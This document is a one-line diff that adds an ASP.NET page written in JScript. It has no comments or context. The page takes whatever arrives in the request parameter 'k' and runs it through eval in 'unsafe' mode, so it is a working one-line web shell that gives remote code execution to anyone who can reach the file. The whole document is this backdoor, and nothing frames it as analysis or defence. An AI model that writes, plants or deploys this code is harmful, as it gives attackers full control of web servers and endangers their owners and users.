@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%var p=Request["k"];eval(p,"unsafe");%>
